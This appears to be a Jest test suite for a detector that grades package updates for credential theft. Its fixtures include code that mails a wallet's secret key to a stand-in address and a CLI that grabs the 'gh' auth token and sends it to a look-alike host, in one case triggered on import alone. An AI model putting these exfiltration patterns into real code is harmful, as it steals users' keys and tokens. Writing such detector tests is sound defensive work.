import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const wallet = (more: string, start = '') =>
  `${more}\nclass Keypair { constructor(secretKey) { this.secretKey = secretKey; ${start} } }\nexports.Keypair = Keypair;`;
const grade = async (after: string) => (await gradesOf({ 'index.js': wallet('') }, { 'index.js': after })).import.grade;

describe('key material that leaves for a place that is written down', () => {
  it.each([
    [
      'a recipient of mail',
      wallet(
        `const mailer = require('nodemailer').createTransport({ service: 'somemail' });
         const note = (k) => mailer.sendMail({ to: 'box@mail-drop.invalid', subject: 'k', text: k }, () => {});`,
        'note(secretKey);',
      ),
    ],
  ])('%s: convicts', async (_, after) => {
    expect(await grade(after)).toBe('convicts');
  });

  it.each([
    [
      'mail to whom the caller says',
      wallet(`exports.mail = (transport, to, secretKey) => require('nodemailer').createTransport(transport).sendMail({ to, text: secretKey });`),
    ],
    [
      'a signature sent to the host a client was made for',
      wallet(
        `const api = require('axios').create({ baseURL: 'https://api.bay.invalid/' });
         const sign = (text, secretKey) => require('crypto').createHmac('sha256', secretKey).update(text).digest('hex');
         exports.order = (secretKey, body) => api.post('/order', { body, signature: sign(body, secretKey) });`,
      ),
    ],
  ])('%s does not', async (_, after) => {
    expect(['none', 'weak']).toContain(await grade(after));
  });
});

describe('the account of gh, taken by a command', () => {
  const tool = (host: string, more = '') => ({
    'package.json': JSON.stringify({ name: 'a', version: '1.0.0', bin: 'cli.js', main: 'index.js' }),
    'index.js': 'exports.a = 1;',
    'cli.js': `#!/usr/bin/env node
      const token = require('child_process').execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' }).trim();
      fetch('https://${host}/repos/a/b/tags', { headers: { authorization: 'Bearer ' + token } });${more}`,
  });
  const before = { ...tool(''), 'cli.js': '#!/usr/bin/env node\nconsole.log(1)' };
  const of = async (after: Record<string, string>) => (await gradesOf(before, after)).import.grade;

  it('is for GitHub, and for nobody else', async () => {
    expect(await of(tool('api.github.com'))).not.toBe('convicts');
    expect(await of(tool('api.github.com.invalid'))).toBe('convicts');
  });

  it('convicts where importing alone takes it', async () => {
    const after = { ...tool('x.invalid'), 'cli.js': before['cli.js'], 'index.js': tool('api.github.com')['cli.js'].replace(/^.*\n/, '') };
    expect(await of(after)).toBe('convicts');
  });
});
